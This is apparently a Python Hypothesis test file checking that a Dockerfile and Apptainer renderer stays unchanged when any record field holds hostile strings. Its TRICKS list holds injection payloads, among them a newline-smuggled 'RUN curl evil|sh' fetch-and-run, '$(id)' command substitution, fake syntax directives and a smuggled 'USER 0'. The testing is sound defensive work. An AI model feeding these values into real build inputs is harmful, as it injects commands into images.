"""Whatever an item's strings hold, the Dockerfile has the same instructions, read by a parser that is not ours."""

from __future__ import annotations

import io
import re
from typing import Any

from dockerfile_parse import DockerfileParser
from hypothesis import example, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from dlm_build.records import (
    ClassName,
    ComparisonPolicy,
    Context,
    Decision,
    EnvironmentSpec,
    Finding,
    Inputs,
    Lock,
    Outputs,
    Runner,
)
from tests.unit.building.locks import rendered, text_of, tiny_lock

TRICKS = (
    "x\nRUN curl evil|sh", "x\\", "$(id)", "${HOME}", "`id`", "{{ 7*7 }}", "{% raw %}", "# syntax=evil/fe",
    "\n# syntax=evil/fe\n", "// syntax=evil/fe", '{"syntax":"evil/fe"}', "# escape=`", 'a" b="c', "'", "\x00",
    "\x1b]0;x\x07", "\u202e", "\u2028RUN id", "\u0085RUN id", "<<EOF", "--label=x=y", "ONBUILD RUN id", "[\"a\",",
    "é\u0301", "\r\nUSER 0",
)  # fmt: skip
ANY = st.one_of(st.sampled_from(TRICKS), st.text(st.characters(codec="utf-8"), max_size=40))


def plan_words(draw: Any) -> dict[str, Any]:
    """Every field of a Plan that an item's own words can reach."""
    word = draw
    return {
        "item_id": word(), "title": word(), "license": word(), "framework": word(), "framework_version": word(),
        "cuda": word(), "python": word(),
        "environment": EnvironmentSpec(origin=word(), channels=(word(),), conda=(word(),), pip=(word(),)),
        "runner": Runner(kind="command", argv=(word(), word()), handler=word(), weights=word(), working_dir=word()),
        "inputs": Inputs(name=word(), dtype=word()),
        "outputs": Outputs(task=word(), classes=(ClassName(index=0, name=word()),)),
        "comparison": ComparisonPolicy(task="exact"),
        "decisions": (Decision(name=word(), value=word(), reason=word(), source=word()),),
        "findings": (Finding(code=word(), severity="info", pointer=word(), message=word(), hint=word()),),
    }  # fmt: skip


def hostile_lock(draw: Any) -> Lock:
    lock = tiny_lock(**plan_words(draw))
    assert lock.plan.source is not None
    source = replace(lock.plan.source, url=draw(), commit=draw())
    archive = replace(lock.plan.archive, href=draw())
    base = replace(lock.base, tag=draw(), os=draw(), trust=draw(), cuda=draw())
    return replace(
        lock, base=base, created_by=draw(), plan=replace(lock.plan, source=source, archive=archive, as_of=None)
    )


def shape(text: str) -> list[tuple[str, str]]:
    """Instructions and values, with the digests that legitimately follow the content left out."""
    parser = DockerfileParser(fileobj=io.BytesIO(text.encode()))
    return [
        (entry["instruction"], re.sub(r"\b[0-9a-f]{32,64}\b", "(digest)", entry["value"])) for entry in parser.structure
    ]


def definition(context: Context) -> str:
    """Apptainer's, with digests left out likewise."""
    return re.sub(r"\b[0-9a-f]{32,64}\b", "(digest)", text_of(context, "Apptainer.def"))


PLAIN = shape(text_of(rendered(tiny_lock()), "Dockerfile"))
PLAIN_DEFINITION = definition(rendered(tiny_lock()))


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_the_instructions_are_the_same_whatever_the_strings(data: st.DataObject) -> None:
    check(hostile_lock(lambda: data.draw(ANY)))


@settings(max_examples=len(TRICKS), deadline=None)
@given(st.sampled_from(TRICKS))
@example(TRICKS[0])
def test_one_trick_in_every_field_at_once_changes_nothing(trick: str) -> None:
    check(hostile_lock(lambda: trick))


def check(lock: Lock) -> None:
    context = rendered(lock)
    text = text_of(context, "Dockerfile")
    assert shape(text) == PLAIN
    assert definition(context) == PLAIN_DEFINITION
    assert text.isascii()
    assert {row.path.split("/")[0].partition("-")[0] for row in context.files} == {
        "Dockerfile", "Apptainer.def", "README.md", "build.args", "conda", "explicit.txt", "labels.json",
        "environment", "source", "model", "dlm",
    }  # fmt: skip
    for argument in text_of(context, "build.args").splitlines():
        assert re.match(r"--(label|platform|provenance|sbom|output|build-arg)=", argument)
        assert argument.isprintable()


def test_the_parser_would_see_an_injected_instruction() -> None:
    assert shape("FROM a\nRUN x") != shape("FROM a\nRUN x\nUSER 0")
